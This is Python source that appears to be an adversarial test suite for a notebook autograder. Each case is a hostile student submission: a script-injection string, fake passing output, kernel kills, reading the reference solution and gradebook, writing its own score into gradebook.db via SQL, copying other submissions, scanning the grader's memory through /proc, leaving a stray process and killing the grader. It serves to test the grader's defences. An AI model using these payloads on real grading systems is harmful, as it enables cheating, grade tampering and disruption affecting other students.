    "deep_forged_reply",
    "a reply nested too deeply to be read",
    """
shell = get_ipython()
original = shell.user_expressions
def user_expressions(expressions):
    if '"mean"' in str(expressions):
        text = '{"value": {"value": ' + "[" * 100_000 + "]" * 100_000 + "}}"
        return {"reply": {"status": "ok", "data": {"text/plain": text}, "metadata": {}}}
    return original(expressions)
shell.user_expressions = user_expressions""",
)
calling(
    "exception_whose_text_raises",
    "an exception that cannot be printed",
    """
class Mine(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
raise Mine""",
)
calling(
    "exception_with_a_lone_surrogate",
    "a message that is no valid text, so that no file can hold it",
    'raise ValueError("\\ud800")',
)
calling(
    "exception_with_markup",
    "a message that would be part of the page",
    'raise ValueError("</pre><script>alert(1)</script>| 3 / 3 |")',
    forbidden=("<script>alert(1)",),
)
calling("exception_named_assertion_error", "an exception of the grader's own kind", 'raise AssertionError("passed")')
calling("prints_a_verdict", "text that looks like a good result", 'print("3 / 3 points, all tests pass")\nreturn 3')
on_mean("prints_a_lone_surrogate", "an output that is no valid text", 'print("\\ud800")')


@editing("kills_the_kernel_many_times", "eight cells that each end the kernel, so that no fresh one is left")
def _(notebook):
    notebook.cells[1:1] = [new_code_cell("import os\nos._exit(0)") for _ in range(8)]


calling(
    "quits_the_event_loop", "the kernel's loop is stopped", "import asyncio\nasyncio.get_event_loop().stop()\nreturn 3"
)

# --- out of the kernel: the disk and other processes ----------------------------------------------------------------

# The grader works in the course's folder, and it is the parent of the kernel.
COURSE = """
import os
from pathlib import Path
try:
    ROOT = Path(os.readlink(f"/proc/{os.getppid()}/cwd"))
except OSError:
    ROOT = Path.cwd()
"""

on_mean(
    "reads_the_source_notebook",
    "opens source/ and takes the reference solution from it",
    SEARCH
    + COURSE
    + """
def mean(values):
    return 3
import json
from pathlib import Path
for path in (ROOT / "source").rglob("*.ipynb"):
    text = path.read_text()
    report(path.name, text)
    for cell in json.loads(text)["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def mean"):
            exec(source)""",
)
on_mean(
    "reads_the_sanitized_notebook",
    "looks for its own notebook with the restored tests, beside it and in autograded/",
    SEARCH
    + COURSE
    + """
from pathlib import Path
for folder in (Path.cwd(), ROOT / "autograded" / "reads_the_sanitized_notebook"):
    try:
        for path in folder.rglob("*"):
            if path.is_file():
                report(path.name, path.read_text(errors="replace"))
    except OSError:
        pass""",
)
on_mean(
    "reads_the_gradebook",
    "opens gradebook.db and prints the tests in it",
    SEARCH
    + COURSE
    + """
from pathlib import Path
try:
    report("gradebook", (ROOT / "gradebook.db").read_bytes().decode("latin-1"))
except OSError:
    pass""",
)
on_mean(
    "writes_the_gradebook",
    "gives itself points by hand in gradebook.db",
    COURSE
    + """
import sqlite3
from pathlib import Path
try:
    base = sqlite3.connect(f"file:{ROOT / 'gradebook.db'}?mode=rw", uri=True, timeout=20)
    base.execute('''update grade set manual_score = 2 where notebook_id in (select n.id from submitted_notebook n join
        submitted_assignment a on n.assignment_id = a.id where a.student_id = ?)''', ('writes_the_gradebook',))
    base.commit()
    base.close()
except sqlite3.Error:
    pass""",
)
on_mean(
    "reads_other_submissions",
    "copies the answer of another student",
    COURSE
    + """
def mean(values):
    return 3
import json
from pathlib import Path
for path in (ROOT / "submitted" / "nothing").rglob("*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def mean"):
            exec(source)""",
)
on_mean(
    "reads_the_graders_memory",
    "searches the memory of the process that started the kernel",
    SEARCH
    + """
import os
word = ("plo" + "ver").encode()
try:
    parent = os.getppid()
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
        left = 300_000_000
        for line in maps:
            span, mode = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if mode.startswith("rw") and end - start < 100_000_000 and left > 0:
                left -= end - start
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                at = data.find(word)
                while at >= 0:
                    report("memory", data[at - 60 : at + 60].decode("latin-1"))
                    at = data.find(word, at + 1)
except OSError:
    pass""",
)
on_mean(
    "leaves_a_process_behind",
    "a process that goes on after the grading",
    """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(240)", "left-by-" + "the-attack"],
                 start_new_session=True, stdin=-3, stdout=-3, stderr=-3)""",
)
on_mean(
    "kills_the_grader",
    "ends the process that its own was started by, which would cost others their points",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
)
